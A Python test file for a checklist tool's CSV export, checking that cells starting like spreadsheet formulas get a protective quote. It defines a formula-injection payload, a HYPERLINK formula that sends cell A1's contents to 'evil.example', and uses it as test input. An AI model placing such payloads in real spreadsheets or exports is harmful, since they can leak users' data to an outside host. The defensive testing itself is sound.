"""CSV for spreadsheets: a cell a user wrote, or a text from an edition file, never runs
as a formula; the bundled law's texts and the IDs are written as they are."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import kz_inspection_checklists as kz
from kz_inspection_checklists.cli import main
from kz_inspection_checklists.exports import export
from kz_inspection_checklists.exports.csv_table import FORMULA_STARTS, guard_cell, unguard_cell
from kz_inspection_checklists.exports.register import register_csv
from kz_inspection_checklists.law.store import bundled
from kz_inspection_checklists.record.files import dumps_record
from kz_inspection_checklists.record.record import new_record
from kz_inspection_checklists.record.register import LONG_COLUMNS, records_table

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "remark", [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=1+1", "''@x"]
)
def test_a_remark_that_starts_like_a_formula_gets_a_quote(remark: str) -> None:
    record = new_record("electronic-signature").mark("EDS-003", "not-applicable", remark)
    cell = rows(export(record, "csv"))[2]["remark"]
    assert cell == "'" + remark
    assert not cell.startswith(FORMULA_STARTS)
    assert unguard_cell(cell) == remark


@pytest.mark.parametrize("remark", ["no, not yet", "it's = fine", "'quoted'", "licence 2-A"])
def test_any_other_remark_is_written_as_it_is(remark: str) -> None:
    record = new_record("electronic-signature").mark("EDS-003", "not-applicable", remark)
    assert rows(export(record, "csv"))[2]["remark"] == remark


@pytest.mark.parametrize(
    "name", [ATTACK, "+7 Telecom", "-Example LLP", "@home LLP", "\t=1+1", "'=1+1", "#N/A"]
)
def test_an_entity_name_that_starts_like_a_formula_is_guarded_on_every_row(name: str) -> None:
    """The entity's name is repeated on every row of a record's CSV, beside the
    remarks: it is the user's text as much as a remark, and gets the same guard."""
    from kz_inspection_checklists.exports.sheet import read_sheet

    record = new_record("electronic-signature").with_header(
        entity_name=name, iin_bin="000101500120"
    )
    record = record.mark("EDS-003", "does-not-conform", "no register kept")
    data = export(record, "csv")
    got = rows(data)
    assert [r["entity_name"] for r in got] == ["'" + name] * len(record.ids)
    assert [r["iin_bin"] for r in got] == ["000101500120"] * len(record.ids)
    for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    back = read_sheet(data)
    assert back.header.entity_name == name  # type: ignore[attr-defined]
    assert back.answer("EDS-003").verdict == "does-not-conform"


def _bundled_checklists() -> list[kz.Checklist]:
    law = bundled()
    return [
        checklist
        for edition in law.editions()
        if edition.text_available
        for language in edition.languages
        for checklist in edition.in_language(language).checklists
    ]


def test_no_bundled_text_starts_like_a_formula_so_the_guard_never_alters_one() -> None:
    """The guard applies to every text from an edition file; the bundled law's texts are
    written verbatim, and none would be changed by it anyway."""
    checked = 0
    for checklist in _bundled_checklists():
        texts = [r.text for r in checklist.requirements]
        texts += [checklist.title, checklist.annex_caption, checklist.list_heading]
        texts += [*checklist.columns, *(f.label for f in checklist.header_fields)]
        for text in texts:
            assert guard_cell(text) == text, text
            checked += 1
        record = new_record(checklist).mark(checklist.ids[0], "does-not-conform", "=2+2")
        for subject in (checklist, record):
            got = rows(export(subject, "csv"))
            assert [(r["id"], r["text"]) for r in got] == [
                (r.id, r.text) for r in checklist.requirements
            ]
        assert rows(export(record, "csv"))[0]["remark"] == "'=2+2"
        table = records_table([record], long=True)
        written = rows(register_csv(table, LONG_COLUMNS))
        assert [r["text"] for r in written] == [r.text for r in checklist.requirements]
    assert checked > 100  # every text of the bundled checklists


def test_a_text_from_outside_the_bundle_that_starts_like_a_formula_is_guarded() -> None:
    """0.1.0 wrote an imported edition's texts unguarded: "=HYPERLINK(...)" ran in a
    spreadsheet. An edited or imported checklist's texts are a user's: guarded, as remarks."""
    checklist = kz.checklist("electronic-signature")
    texts = ("=1+1 " + checklist.requirements[0].text, "-" + checklist.requirements[1].text)
    requirements = tuple(
        r.model_copy(update={"text": texts[i]}) if i < 2 else r
        for i, r in enumerate(checklist.requirements)
    )
    odd = checklist.model_copy(update={"requirements": requirements})
    record = new_record(odd).mark("EDS-001", "does-not-conform", "=2+2")
    for subject in (odd, record):
        got = rows(export(subject, "csv"))
        assert [r["id"] for r in got] == list(checklist.ids)
        assert [unguard_cell(r["text"]) for r in got] == [r.text for r in requirements]
        assert [r["text"][:2] for r in got[:2]] == ["'=", "'-"]
    table = records_table([record], long=True)
    assert rows(register_csv(table, LONG_COLUMNS))[0]["text"] == "'" + texts[0]


def test_export_record_from_the_command_line_guards_the_remark(
    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    record = new_record("electronic-signature").mark("EDS-003", "not-applicable", ATTACK)
    path = tmp_path / "record.json"
    path.write_text(dumps_record(record), encoding="utf-8")
    assert main(["export-record", str(path), "--format", "csv", "--bom"]) == 0
    data = capsysbinary.readouterr().out
    assert rows(data)[2]["remark"] == "'" + ATTACK
    assert b',"=HYPERLINK' not in data and b",=" not in data


@given(st.text(max_size=12))
def test_guarding_is_undone_exactly_and_leaves_no_formula(value: str) -> None:
    guarded = guard_cell(value)
    assert not guarded.startswith(FORMULA_STARTS)
    assert unguard_cell(guarded) == value
    # Only a value a spreadsheet would run (after any quotes) is changed, by one quote.
    assert (guarded != value) is value.lstrip("'").startswith(FORMULA_STARTS)


def test_only_a_formula_s_first_characters_after_quotes_are_guarded() -> None:
    assert [guard_cell(v) for v in ("X-ray", "X=1", "x@y")] == ["X-ray", "X=1", "x@y"]


def test_a_checklist_said_to_be_bundled_has_its_texts_written_as_they_are() -> None:
    from kz_inspection_checklists.exports.csv_table import checklist_csv

    checklist = kz.checklist("electronic-signature")
    first = checklist.requirements[0].model_copy(update={"text": "=1+1 made up for a test"})
    odd = checklist.model_copy(update={"requirements": (first, *checklist.requirements[1:])})
    assert rows(checklist_csv(odd, bundled=True).encode())[0]["text"] == "=1+1 made up for a test"
    assert rows(checklist_csv(odd).encode())[0]["text"] == "'=1+1 made up for a test"
